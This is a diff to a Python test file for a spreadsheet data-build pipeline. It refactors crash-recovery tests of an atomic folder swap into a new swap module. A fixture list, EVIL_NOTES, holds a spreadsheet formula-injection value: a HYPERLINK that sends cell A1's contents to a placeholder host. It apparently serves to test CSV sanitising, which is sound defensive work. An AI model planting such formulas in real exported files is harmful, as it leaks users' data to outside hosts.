@@ -17,12 +17,12 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from me_utils.build import dataset
+from me_utils.build import dataset, swap
 from me_utils.build import pipeline as build
 from me_utils.core import safe_csv
 from me_utils.intake import submissions as intake
 
-SRC = str(Path(build.__file__).resolve().parents[1])
+SRC = str(Path(build.__file__).resolve().parents[2])  # src/ (pipeline sits in me_utils/build/)
 HEADER = ["Mã chỉ tiêu", "Đơn vị", "Năm", "Kỳ báo cáo", "Giới tính", "Giá trị", "Ghi chú"]
 EVIL_NOTES = [
     '=HYPERLINK("http://example.invalid/?"&A1,"bấm vào đây")',
@@ -190,8 +190,8 @@ def test_kill_right_after_the_exchange_leaves_a_complete_processed(root, tmp_pat
     r = _run_script(
         """
         import os
-        from me_utils.build import pipeline as build
-        build._after_swap = lambda: os._exit(9)  # killed between the swap and the clean-up
+        from me_utils.build import pipeline as build, swap
+        swap._after_swap = lambda: os._exit(9)  # killed between the swap and the clean-up
         build.cli(["--root", ROOT, "--quiet"])
     """,
         root,
@@ -212,8 +212,8 @@ def test_kill_before_the_exchange_keeps_the_old_processed(root):
     r = _run_script(
         """
         import os
-        from me_utils.build import pipeline as build
-        build.fsync_tree = lambda p: os._exit(9)  # killed with the new folder written
+        from me_utils.build import pipeline as build, swap
+        swap.fsync_tree = lambda p: os._exit(9)  # killed with the new folder written
         build.cli(["--root", ROOT, "--quiet"])
     """,
         root,
@@ -230,9 +230,9 @@ def test_fallback_swap_killed_between_the_two_renames_is_recovered(root):
     r = _run_script(
         """
         import os
-        from me_utils.build import pipeline as build
-        build.exchange = lambda a, b: False           # no atomic exchange on this platform
-        build._between_renames = lambda: os._exit(9)  # the fault the old code could not survive
+        from me_utils.build import pipeline as build, swap
+        swap.exchange = lambda a, b: False           # no atomic exchange on this platform
+        swap._between_renames = lambda: os._exit(9)  # the fault the old code could not survive
         build.cli(["--root", ROOT, "--quiet", "--keep-going"])
     """,
         root,
@@ -264,7 +264,7 @@ def test_a_failed_swap_leaves_processed_untouched_and_no_leftover(root, monkeypa
     def boom(a, b):
         raise OSError(28, "No space left on device")
 
-    monkeypatch.setattr(build, "exchange", boom)
+    monkeypatch.setattr(swap, "exchange", boom)
     assert build.cli(["--root", str(root), "--keep-going", "--quiet"]) == 1
     assert _complete(root / "processed")["manifest_hash"] == first["manifest_hash"]
     assert not list(root.glob(".processed.*"))
